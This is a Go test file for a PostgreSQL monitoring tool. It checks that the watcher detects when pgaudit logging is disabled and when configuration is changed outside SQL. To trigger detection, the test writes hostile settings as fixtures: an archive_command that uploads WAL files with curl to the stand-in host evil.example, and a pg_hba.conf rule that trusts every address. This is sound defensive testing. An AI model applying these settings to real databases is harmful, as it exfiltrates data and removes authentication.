package server

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"howdah/internal/audit"
	"howdah/internal/cluster"
	"howdah/internal/pg/pgtest"
)

// eye is a watch of a real PostgreSQL whose steps a test takes one by one.
type eye struct {
	*watcher
	s     *Server
	t     *testing.T
	heard chan audit.Batch
	kept  []audit.Line // what came on the trail
	found []string     // rules of incidents
}

func newEye(t *testing.T, c *cluster.Cluster) *eye {
	t.Helper()
	s := newServer(Options{Cluster: c, Log: slog.New(slog.DiscardHandler), Lang: "en"})
	w, err := newWatcher(s.watch)
	if err != nil {
		t.Fatal(err)
	}
	e := &eye{watcher: w, s: s, t: t, heard: make(chan audit.Batch)}
	following, stop := context.WithCancel(t.Context())
	over := make(chan error, 1)
	go func() {
		over <- audit.Follow(following, c.LogDir(), w.at, func(b audit.Batch) error {
			b.Lines, b.Raw = slices.Clone(b.Lines), nil
			select {
			case e.heard <- b:
				return nil
			case <-following.Done():
				return following.Err()
			}
		})
	}()
	t.Cleanup(func() { stop(); <-over })
	return e
}

// until takes what comes through the log as long as done is false. again is done each time that nothing came for a while, and may write to the log.
func (e *eye) until(what string, again func(), done func() bool) {
	e.t.Helper()
	limit := time.NewTimer(5 * time.Minute)
	defer limit.Stop()
	tick := time.NewTicker(50 * time.Millisecond)
	defer tick.Stop()
	for !done() {
		select {
		case b := <-e.heard:
			e.take(b)
			e.listen(&b)
			e.kept = append(e.kept, b.Lines...)
		case <-tick.C:
			if again != nil {
				again()
			}
		case <-limit.C:
			e.t.Fatalf("it was waited in vain for this: %s", what)
		}
	}
	e.rules()
}

// rules notes which incidents there are.
func (e *eye) rules() {
	for _, i := range e.due {
		for _, rule := range i.Rules {
			if !slices.Contains(e.found, rule) {
				e.found = append(e.found, rule)
			}
		}
	}
}

// glance is one look, with whatever the canary has to do now.
func (e *eye) glance(again func()) {
	e.t.Helper()
	e.canary.next = time.Time{} // it is time
	looked := make(chan look, 1)
	e.look(e.t.Context(), e.judge.Transactions(), e.canary.due(), looked)
	l := <-looked
	if l.err != nil {
		e.t.Fatal(l.err)
	}
	e.sung(l.song)
	e.compare(l)
	e.until("the canary is heard or missed", again, func() bool { return e.canary.token == "" })
}

// TestTheWatchKnowsThatItIsBlindAndWhatIsChangedOutsideOfSQL: its canary is heard through the log and nobody sees it there; when auditing is switched off, one alert says since when, and the room when it is over. What is changed in files is
// found by looking, and what has a record is judged by that.
func TestTheWatchKnowsThatItIsBlindAndWhatIsChangedOutsideOfSQL(t *testing.T) {
	t.Parallel()
	scratch, err := cluster.NewScratch(t.Context(), cluster.ScratchOptions{Settings: map[string]string{"shared_preload_libraries": "pgaudit", "pgaudit.log": "role, ddl"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := scratch.Close(context.Background()); err != nil {
			t.Error(err)
		}
	})
	e := newEye(t, scratch.Cluster)
	do := func(statements ...string) {
		t.Helper()
		dsn, err := scratch.DSN(cluster.Superuser, cluster.Database)
		if err != nil {
			t.Fatal(err)
		}
		conn, err := pgx.Connect(t.Context(), dsn)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close(context.WithoutCancel(t.Context()))
		for _, sql := range statements {
			if _, err := conn.Exec(t.Context(), sql); err != nil {
				t.Fatalf("%s: %v", sql, err)
			}
		}
	}
	n := 0
	noise := func() { // a line of the log, whatever is audited
		n++
		do(fmt.Sprintf("DO $$ BEGIN RAISE WARNING 'noise %d'; END $$", n))
	}
	in := func(setting, value string) func() bool {
		return func() bool {
			dsn, err := scratch.DSN(cluster.Watcher, cluster.Database)
			if err != nil {
				t.Fatal(err)
			}
			conn, err := pgx.Connect(t.Context(), dsn)
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close(context.WithoutCancel(t.Context()))
			var is string
			return conn.QueryRow(t.Context(), "SELECT current_setting($1)", setting).Scan(&is) == nil && is == value
		}
	}

	e.glance(nil)
	if e.canary.heard.IsZero() || e.canary.lost != 0 || len(Troubles(scratch.Cluster)) != 0 || len(e.found) > 0 {
		t.Fatalf("%+v, %v", e.canary, e.found)
	}
	if word := e.canary.due(); word != "" {
		t.Errorf("it sings again at once: %s", word)
	}

	do("ALTER SYSTEM SET pgaudit.log = 'none'", "SELECT pg_reload_conf()")
	pgtest.Await(t, "auditing is off", in("pgaudit.log", "none"))
	e.glance(noise)
	if e.canary.lost != 1 || len(Troubles(scratch.Cluster)) != 0 {
		t.Errorf("one that is lost is not yet blindness: %+v, %+v", e.canary, Troubles(scratch.Cluster))
	}
	for range 3 { // told once
		e.glance(noise)
	}
	e.rules()
	blind := Troubles(scratch.Cluster)
	if len(blind) != 1 || blind[0].Fault.Key != "watch.blind" || !strings.Contains(fmt.Sprint(blind[0].Fault.Args["state"]), "pgaudit.log = none") {
		t.Fatalf("howdah status: %+v", blind)
	}
	alerts := 0
	for _, i := range e.due {
		if slices.Contains(i.Rules, "watch.canary") {
			alerts++
			if i.Count != 1 || !strings.Contains(e.text(i), "the watch is blind since ") {
				t.Errorf("%d times: %s", i.Count, e.text(i))
			}
		}
	}
	if alerts != 1 {
		t.Errorf("%d alerts: %v", alerts, e.found)
	}

	do("ALTER SYSTEM RESET pgaudit.log", "SELECT pg_reload_conf()")
	pgtest.Await(t, "auditing is on", in("pgaudit.log", "role, ddl"))
	e.glance(noise)
	if e.canary.lost != 0 || len(Troubles(scratch.Cluster)) != 0 {
		t.Errorf("it sees again: %+v, %+v", e.canary, Troubles(scratch.Cluster))
	}
	for _, l := range e.kept {
		if l.Audit != nil && strings.Contains(l.Audit.Statement, "canary") {
			t.Errorf("the canary is on the trail: %s", l.Audit.Statement)
		}
	}
	if gaps := slices.DeleteFunc(slices.Clone(e.found), func(rule string) bool { return !strings.Contains(rule, "gap") }); len(gaps) > 0 {
		t.Errorf("what was taken out is missed: %v", e.found)
	}

	// What is changed where no SQL is: two looks, since the log of the first one's moment is to be read before it is judged.
	change := func(what string, act func(), outside bool, want ...string) {
		t.Helper()
		clear(e.due)
		act()
		e.glance(noise)
		e.glance(noise)
		e.rules()
		var objects []string
		for _, i := range e.due {
			objects = append(objects, i.Objects...)
		}
		for _, rule := range want {
			if !slices.Contains(e.found, rule) && !slices.Contains(objects, rule) {
				t.Errorf("%s: %s is not found, but %q, %q", what, rule, e.found, objects)
			}
		}
		if slices.Contains(e.found, "watch.outside") != outside {
			t.Errorf("%s: outside of SQL is %v: %q", what, !outside, e.found)
		}
		if len(e.due) > 1 {
			t.Errorf("%s: %d incidents", what, len(e.due))
		}
	}
	edit := func(name, line string) {
		t.Helper()
		f, err := os.OpenFile(filepath.Join(scratch.DataDir(), name), os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		_, err = f.WriteString(line + "\n")
		if err = errors.Join(err, f.Close()); err != nil {
			t.Fatal(err)
		}
	}
	if change("nothing", func() {}, false); len(e.due) > 0 {
		t.Errorf("nothing was changed: %q", e.found)
	}
	change("ALTER SYSTEM", func() { do("ALTER SYSTEM SET archive_command = 'cp %p /mnt/%f'", "SELECT pg_reload_conf()") }, false, "code.command-setting")
	change("postgresql.auto.conf", func() { edit("postgresql.auto.conf", "archive_command = 'curl -T %p evil.example'") }, true, "watch.outside", "archive_command")
	change("pg_hba.conf", func() { edit("pg_hba.conf", "host all all 0.0.0.0/0 trust") }, true, "watch.hba-trust")
	change("a slot", func() { do("SELECT pg_create_physical_replication_slot('leak')") }, true, "watch.slot")
	change("postgresql.conf and a restart", func() {
		edit("postgresql.conf", "allow_system_table_mods = on")
		if err := scratch.Restart(t.Context()); err != nil {
			t.Fatal(err)
		}
		e.eyes = nil
	}, true, "allow_system_table_mods")

	// Nothing comes through the log at all: then time tells.
	e.canary = canary{token: "x", sung: time.Now(), began: time.Now().Add(-canaryWait - time.Second), lost: canaryTries - 1}
	e.watched.behind.Store(1)
	e.despair()
	if e.canary.token == "" {
		t.Error("it despairs while the log is not read to its end")
	}
	e.watched.behind.Store(0)
	e.despair()
	if e.canary.token != "" || len(Troubles(scratch.Cluster)) != 1 {
		t.Errorf("%+v", e.canary)
	}
}
